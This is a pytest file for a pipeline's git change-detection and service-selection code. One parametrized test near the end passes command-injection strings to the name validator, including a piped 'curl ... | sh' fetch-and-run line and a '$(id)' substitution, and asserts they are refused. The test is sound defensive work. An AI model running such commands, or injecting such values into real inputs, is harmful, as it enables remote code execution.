"""Change detection on a real git repository."""

from __future__ import annotations

from pathlib import Path

import git
import pytest

from pipeline.changes import ZERO_SHA, affected, detect, matches, select
from pipeline.core.errors import UsageError

PATHS = {"orders": ("loadtests/orders.py", "libs/shared/**"), "catalog": ("loadtests/catalog.py",)}


@pytest.mark.parametrize(
    ("path", "glob", "hit"),
    [
        ("libs/shared/a/b.py", "libs/shared/**", True),
        ("libs/shared.py", "libs/shared/**", False),
        ("services/x/app.py", "services/*/app.py", True),
        ("services/x/y/app.py", "services/*/app.py", False),
        ("a/b/c.txt", "**/c.txt", True),
        ("c.txt", "**/c.txt", True),
    ],
)
def test_globs(path: str, glob: str, hit: bool) -> None:
    assert matches(path, [glob]) is hit


def test_service_folder_counts_without_a_glob() -> None:
    assert affected(["services/catalog/app.py", "README.md"], PATHS) == ("catalog",)


def _commit(repo: git.Repo, files: dict[str, str], message: str) -> str:
    root = Path(repo.working_tree_dir or ".")
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    repo.index.add(list(files))
    return repo.index.commit(message).hexsha


def test_detects_services_changed_between_two_real_commits(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    base = _commit(
        repo, {"services/orders/app.py": "1", "services/catalog/app.py": "1", "libs/shared/x.py": "1"}, "a"
    )
    head = _commit(repo, {"libs/shared/x.py": "2", "docs/readme.md": "x"}, "b")
    result = detect(tmp_path, base, head, PATHS)
    assert result.services == ("orders",)
    assert result.files == ("docs/readme.md", "libs/shared/x.py")
    assert not result.everything


def test_a_zero_base_marks_every_service(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    head = _commit(repo, {"a.txt": "1"}, "a")
    result = detect(tmp_path, ZERO_SHA, head, PATHS)
    assert result.everything and result.services == ("catalog", "orders")


def test_an_unknown_head_is_a_usage_error(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    base = _commit(repo, {"a.txt": "1"}, "a")
    with pytest.raises(UsageError, match="unknown --head"):
        detect(tmp_path, base, "f" * 40, PATHS)


def test_an_unknown_base_marks_every_service(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    head = _commit(repo, {"a.txt": "1"}, "a")
    result = detect(tmp_path, "1234567" * 5 + "abcde", head, PATHS)
    assert result.everything and result.services == ("catalog", "orders")
    assert "unknown base" in result.reason


def test_a_force_pushed_base_that_is_not_an_ancestor_marks_every_service(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    first = _commit(repo, {"services/orders/app.py": "1"}, "a")
    old_tip = _commit(repo, {"services/orders/app.py": "2"}, "b")
    repo.head.reset(first, index=True, working_tree=True)  # history rewritten, as by a force push
    new_tip = _commit(repo, {"docs/readme.md": "x"}, "c")
    result = detect(tmp_path, old_tip, new_tip, PATHS)
    assert result.everything and result.services == ("catalog", "orders")
    assert "not an ancestor" in result.reason


def test_a_file_matching_shared_paths_marks_every_service(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    base = _commit(repo, {"pipeline.yaml": "1", "loadtests/common_users.py": "1"}, "a")
    head = _commit(repo, {"loadtests/common_users.py": "2"}, "b")
    shared = ("pipeline.yaml", "loadtests/common*.py")
    result = detect(tmp_path, base, head, PATHS, shared)
    assert result.everything and result.services == ("catalog", "orders")
    assert result.reason == "loadtests/common_users.py matches shared_paths"


def test_a_file_outside_shared_paths_marks_only_its_service(tmp_path: Path) -> None:
    repo = git.Repo.init(tmp_path)
    base = _commit(repo, {"pipeline.yaml": "1", "loadtests/orders.py": "1"}, "a")
    head = _commit(repo, {"loadtests/orders.py": "2"}, "b")
    result = detect(tmp_path, base, head, PATHS, ("pipeline.yaml", "loadtests/common*.py"))
    assert result.services == ("orders",) and not result.everything


def test_select_takes_names_separated_by_spaces_or_commas() -> None:
    assert select(" orders, catalog  orders ", ["catalog", "orders", "notify"]) == ("catalog", "orders")


@pytest.mark.parametrize("text", ['x"; curl https://example.invalid | sh #', "orders,$(id)", "", " , "])
def test_select_refuses_anything_but_known_service_names(text: str) -> None:
    with pytest.raises(UsageError) as caught:
        select(text, ["catalog", "orders"])
    assert caught.value.exit_code == 2
    hint = caught.value.hint or ""
    assert "known services: catalog, orders" in hint or "no service" in caught.value.message
